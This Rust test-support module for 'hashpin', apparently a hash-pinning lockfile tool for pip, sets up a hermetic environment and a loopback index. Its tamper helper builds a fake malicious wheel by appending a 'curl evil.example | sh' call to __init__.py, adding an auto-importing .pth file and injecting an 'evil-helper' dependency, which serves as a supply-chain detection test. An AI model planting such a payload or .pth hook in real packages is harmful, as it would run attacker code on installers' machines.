//! The test context: a temporary directory, a hermetic environment, a loopback index, and a way
//! to run the real `hashpin` binary and read what it printed.

use std::io::{Cursor, Read, Write};
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use crate::index_server::IndexServer;

/// Variables that would let the machine's own setup leak into a test.
pub(crate) const CLEARED: &[&str] = &[
    "HASHPIN_CACHE_DIR",
    "HASHPIN_NO_CACHE",
    "HASHPIN_JOBS",
    "HASHPIN_RETRY_DELAY_MS",
    "HASHPIN_MAX_ARTIFACT_SIZE",
    "HASHPIN_UV",
    "HASHPIN_RESOLVER",
    "NO_COLOR",
    "FORCE_COLOR",
    "PIP_INDEX_URL",
    "PIP_EXTRA_INDEX_URL",
    "PIP_FIND_LINKS",
    "PIP_NO_INDEX",
    "PIP_TRUSTED_HOST",
    "PIP_CERT",
    "PIP_DEFAULT_TIMEOUT",
    "PIP_TIMEOUT",
    "PIP_RETRIES",
    "PIP_CONFIG_FILE",
    "PIP_ISOLATED_MODE",
    "PIP_REQUIRE_VIRTUALENV",
    "VIRTUAL_ENV",
    "NETRC",
    "XDG_CONFIG_HOME",
    "XDG_CONFIG_DIRS",
    "XDG_CACHE_HOME",
    "HTTP_PROXY",
    "HTTPS_PROXY",
    "ALL_PROXY",
    "http_proxy",
    "https_proxy",
    "all_proxy",
    "RUST_BACKTRACE",
];

/// One test's world.
pub(crate) struct TestContext {
    /// The temporary directory; the working directory of every command.
    pub(crate) temp: tempfile::TempDir,
    /// The loopback index.
    pub(crate) server: IndexServer,
}

/// What a command did.
pub(crate) struct Run {
    /// Exit code.
    pub(crate) code: i32,
    /// Standard output, with the index address and temp dir filtered.
    pub(crate) stdout: String,
    /// Standard error, filtered the same way.
    pub(crate) stderr: String,
}

impl Run {
    /// Code, stdout and stderr in one text, for snapshots.
    pub(crate) fn snapshot(&self) -> String {
        format!(
            "exit code: {}\n----- stdout -----\n{}----- stderr -----\n{}",
            self.code, self.stdout, self.stderr
        )
    }
}

impl TestContext {
    /// A fresh directory and index.
    pub(crate) fn new() -> Self {
        Self {
            temp: tempfile::tempdir().expect("a temporary directory"),
            server: IndexServer::start(),
        }
    }

    /// A path inside the temp dir.
    pub(crate) fn path(&self, name: &str) -> PathBuf {
        self.temp.path().join(name)
    }

    /// Writes a file in the temp dir, creating directories.
    pub(crate) fn write(&self, name: &str, text: &str) -> PathBuf {
        let path = self.path(name);
        if let Some(parent) = path.parent() {
            fs_err::create_dir_all(parent).unwrap();
        }
        fs_err::write(&path, text).unwrap();
        path
    }

    /// Reads a file from the temp dir.
    pub(crate) fn read(&self, name: &str) -> String {
        fs_err::read_to_string(self.path(name)).unwrap()
    }

    /// A `Command` for the binary with a hermetic environment.
    pub(crate) fn command(&self) -> Command {
        let mut command = Command::new(env!("CARGO_BIN_EXE_hashpin"));
        for variable in CLEARED {
            command.env_remove(variable);
        }
        let home = self.path("home");
        // hashpin's temporaries (and those of the pip it runs) stay inside the test's own
        // directory, removed with it: a test that ends hashpin with SIGKILL, which nothing can
        // clean up after, leaves nothing in the machine's shared `/tmp`.
        let tmp = home.join("tmp");
        fs_err::create_dir_all(&tmp).unwrap();
        command
            .current_dir(self.temp.path())
            .env("HOME", &home)
            .env("TMPDIR", &tmp)
            .env("PIP_CONFIG_FILE", "/dev/null")
            .env("HASHPIN_CACHE_DIR", self.path("cache"))
            .env("HASHPIN_RETRY_DELAY_MS", "5")
            // `--resolver auto` would pick whatever uv this machine has on PATH: tests that
            // resolve with uv say so and get the pinned one (`uv_program`).
            .env("HASHPIN_RESOLVER", "pip")
            .env("NO_COLOR", "1");
        for (name, _) in std::env::vars_os() {
            if name.to_string_lossy().starts_with("UV_") {
                command.env_remove(name);
            }
        }
        command
    }

    /// Runs `hashpin ARGS...`.
    pub(crate) fn run(&self, args: &[&str]) -> Run {
        let output = self.command().args(args).output().expect("hashpin runs");
        self.finish(&output)
    }

    /// Runs `hashpin ARGS...` with these environment variables set as well.
    pub(crate) fn run_with_env(&self, args: &[&str], vars: &[(&str, &str)]) -> Run {
        let mut command = self.command();
        command.args(args);
        for (name, value) in vars {
            command.env(name, value);
        }
        let output = command.output().expect("hashpin runs");
        self.finish(&output)
    }

    /// Runs `hashpin lock ARGS... -i <loopback simple index>`.
    pub(crate) fn lock(&self, args: &[&str]) -> Run {
        let index = self.server.simple_url();
        let mut all: Vec<&str> = vec!["lock"];
        all.extend_from_slice(args);
        all.extend_from_slice(&["--index-url", &index]);
        self.run(&all)
    }

    /// A fresh virtual environment in the test's directory; returns its python.
    pub(crate) fn venv(&self, name: &str) -> PathBuf {
        let path = self.path(name);
        let output = Command::new("python3")
            .args(["-m", "venv"])
            .arg(&path)
            .output()
            .expect("python3 -m venv runs");
        assert!(output.status.success(), "{output:?}");
        path.join("bin/python")
    }

    /// `PYTHON -m pip ARGS...` with the machine's pip settings removed.
    pub(crate) fn pip(&self, python: &Path, args: &[&str]) -> Output {
        let mut command = Command::new(python);
        command.args(["-m", "pip"]).args(args);
        for variable in CLEARED {
            command.env_remove(variable);
        }
        command
            .current_dir(self.temp.path())
            .env("PIP_CONFIG_FILE", "/dev/null")
            .env("PIP_DISABLE_PIP_VERSION_CHECK", "1")
            .env("PIP_NO_INPUT", "1")
            .output()
            .expect("pip runs")
    }

    /// Plain `pip install --require-hashes -r LOCKFILE` from the loopback index must succeed.
    pub(crate) fn assert_pip_accepts(&self, python: &Path, lockfile: &str) {
        let index = self.server.simple_url();
        let lockfile = self.path(lockfile);
        let output = self.pip(
            python,
            &[
                "install",
                "--require-hashes",
                "-i",
                &index,
                "-r",
                lockfile.to_str().unwrap(),
            ],
        );
        assert!(
            output.status.success(),
            "pip refused the lockfile:\n{}\n{}",
            String::from_utf8_lossy(&output.stdout),
            String::from_utf8_lossy(&output.stderr)
        );
    }

    /// Filters what changes from run to run.
    pub(crate) fn filter(&self, text: &str) -> String {
        let temp = self.temp.path().display().to_string();
        let text = text
            .replace(&self.server.base_url(), "[INDEX]")
            // The same address with credentials in front of it.
            .replace(
                self.server.base_url().trim_start_matches("http://"),
                "[HOST]",
            )
            .replace(&temp, "[TEMP]")
            .replace(env!("CARGO_MANIFEST_DIR"), "[REPO]");
        filter_timings(&text)
    }

    fn finish(&self, output: &Output) -> Run {
        Run {
            code: output.status.code().unwrap_or(-1),
            stdout: self.filter(&String::from_utf8_lossy(&output.stdout)),
            stderr: self.filter(&String::from_utf8_lossy(&output.stderr)),
        }
    }
}

/// Replaces ` in 0.12s` with ` in [TIME]`.
fn filter_timings(text: &str) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some(index) = rest.find(" in ") {
        out.push_str(&rest[..index + 4]);
        rest = &rest[index + 4..];
        let number: usize = rest
            .find(|c: char| !(c.is_ascii_digit() || c == '.'))
            .unwrap_or(rest.len());
        if number > 0 && rest[number..].starts_with('s') {
            out.push_str("[TIME]");
            rest = &rest[number + 1..];
        }
    }
    out.push_str(rest);
    out
}

/// The sha256 of a file under `testdata/index`, as `python3 -m pip hash` computes it.
pub(crate) fn pip_hash(path: &Path) -> String {
    let output = Command::new("python3")
        .args(["-m", "pip", "hash"])
        .arg(path)
        .env("PIP_CONFIG_FILE", "/dev/null")
        .env("PIP_DISABLE_PIP_VERSION_CHECK", "1")
        .output()
        .expect("python3 -m pip runs");
    assert!(output.status.success(), "pip hash failed: {output:?}");
    let text = String::from_utf8(output.stdout).unwrap();
    text.lines()
        .find_map(|line| line.strip_prefix("--hash="))
        .expect("pip hash prints a --hash= line")
        .to_string()
}

/// A file under `testdata/index/<project>/`.
pub(crate) fn testdata_artifact(project: &str, filename: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("testdata/index")
        .join(project)
        .join(filename)
}

/// The tinyproj wheel, republished: its module changed, a `.pth` added, and a dependency
/// added to METADATA.
pub(crate) fn republished_wheel() -> Vec<u8> {
    rewrite_tiny_wheel(
        |name, text| tamper(name, text, true),
        ("zzz_tinyproj.pth", "import tinyproj\n"),
    )
}

/// The tinyproj wheel, tampered with (its module changed and a `.pth` added) but with no new
/// dependency, so that pip still resolves it.
pub(crate) fn tampered_wheel() -> Vec<u8> {
    rewrite_tiny_wheel(
        |name, text| tamper(name, text, false),
        ("zzz_tinyproj.pth", "import tinyproj\n"),
    )
}

fn tamper(name: &str, mut text: String, new_dependency: bool) -> String {
    if name.ends_with("__init__.py") {
        text.push_str("import os; os.system('curl evil.example | sh')\n");
    }
    if new_dependency && name.ends_with("METADATA") {
        text = text.replacen(
            "Version: 1.0.0\n",
            "Version: 1.0.0\nRequires-Dist: evil-helper\n",
            1,
        );
    }
    text
}

/// The tinyproj 1.0.0 wheel with every member's text passed through `edit`, and one member
/// (name, text) added at the end.
pub(crate) fn rewrite_tiny_wheel(
    edit: impl Fn(&str, String) -> String,
    added: (&str, &str),
) -> Vec<u8> {
    let original = fs_err::read(testdata_artifact(
        "tinyproj",
        "tinyproj-1.0.0-py3-none-any.whl",
    ))
    .unwrap();
    let mut archive = zip::ZipArchive::new(Cursor::new(original)).unwrap();
    let mut writer = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default();
    for index in 0..archive.len() {
        let mut member = archive.by_index(index).unwrap();
        let name = member.name().unwrap().to_string();
        let mut text = String::new();
        member.read_to_string(&mut text).unwrap();
        let text = edit(&name, text);
        writer.start_file(name, options).unwrap();
        writer.write_all(text.as_bytes()).unwrap();
    }
    writer.start_file(added.0, options).unwrap();
    writer.write_all(added.1.as_bytes()).unwrap();
    writer.finish().unwrap().into_inner()
}

/// What each command made of the same lockfile.
pub(crate) struct Everyone {
    pub(crate) lock: Run,
    pub(crate) check: Run,
    pub(crate) verify: Run,
    pub(crate) install: Run,
}

/// Runs `lock`, `check`, `verify FILE URL` (with the bytes the index serves for `served`) and
/// `install --frozen` into a fresh virtual environment, each against the loopback index, and
/// checks that none of them changed the lockfile unless lock passed.
pub(crate) fn every_command(context: &TestContext, served: &str) -> Everyone {
    let before = context.read("requirements.txt");
    let lock = context.lock(&["--check"]);
    assert_eq!(context.read("requirements.txt"), before);
    let index = context.server.simple_url();
    let check = context.run(&["check", "--index-url", &index]);
    fs_err::write(context.path(served), context.server.bytes(served)).unwrap();
    let url = context.server.file_url(served);
    let verify = context.run(&["verify", served, &url]);
    let python = context.venv("venv");
    let install = context.run(&[
        "install",
        "--frozen",
        "--python",
        python.to_str().unwrap(),
        "-i",
        &index,
    ]);
    assert_eq!(
        context.read("requirements.txt"),
        before,
        "no command writes here"
    );
    Everyone {
        lock,
        check,
        verify,
        install,
    }
}

pub(crate) fn codes(everyone: &Everyone) -> [i32; 4] {
    [
        everyone.lock.code,
        everyone.check.code,
        everyone.verify.code,
        everyone.install.code,
    ]
}

/// The uv the tests resolve and install with, from PyPI at this version.
pub(crate) const UV_VERSION: &str = "0.13.9";

/// The pinned uv, installed once into a tool environment (see [`tool_venv`]).
pub(crate) fn uv_program() -> &'static Path {
    static UV: std::sync::OnceLock<PathBuf> = std::sync::OnceLock::new();
    UV.get_or_init(|| {
        tool_venv(
            &format!("tool-uv-{UV_VERSION}"),
            &[&format!("uv=={UV_VERSION}")],
        )
        .join("bin/uv")
    })
}

/// A virtual environment under the cargo target directory with exact versions of tools the
/// tests drive or compare against, installed from PyPI once (under a file lock, so parallel
/// test binaries wait for one another) and kept for the next run. Returns its directory.
pub(crate) fn tool_venv(name: &str, requirements: &[&str]) -> PathBuf {
    let dir = Path::new(env!("CARGO_TARGET_TMPDIR")).join(name);
    let lock = fs_err::File::create(dir.with_extension("lock")).unwrap();
    lock.file().lock().unwrap();
    let ready = dir.join("ready");
    if !ready.exists() {
        let _ = fs_err::remove_dir_all(&dir);
        let output = Command::new("python3")
            .args(["-m", "venv"])
            .arg(&dir)
            .output()
            .expect("python3 -m venv runs");
        assert!(output.status.success(), "{output:?}");
        let mut command = Command::new(dir.join("bin/python"));
        command.args(["-m", "pip", "install", "--quiet"]);
        command.args(requirements);
        hermetic(&mut command);
        let output = command.output().expect("pip runs");
        assert!(
            output.status.success(),
            "installing {requirements:?} from PyPI failed:\n{}",
            String::from_utf8_lossy(&output.stderr)
        );
        fs_err::write(&ready, "").unwrap();
    }
    dir
}

/// Removes what would let the machine's setup leak into pip: every `PIP_*` variable, then
/// pip's configuration file.
pub(crate) fn hermetic(command: &mut Command) {
    for variable in CLEARED {
        command.env_remove(variable);
    }
    for (name, _) in std::env::vars_os() {
        if name.to_string_lossy().starts_with("PIP_") {
            command.env_remove(name);
        }
    }
    command
        .env("PIP_CONFIG_FILE", "/dev/null")
        .env("PIP_DISABLE_PIP_VERSION_CHECK", "1")
        .env("PYTHONDONTWRITEBYTECODE", "1");
}
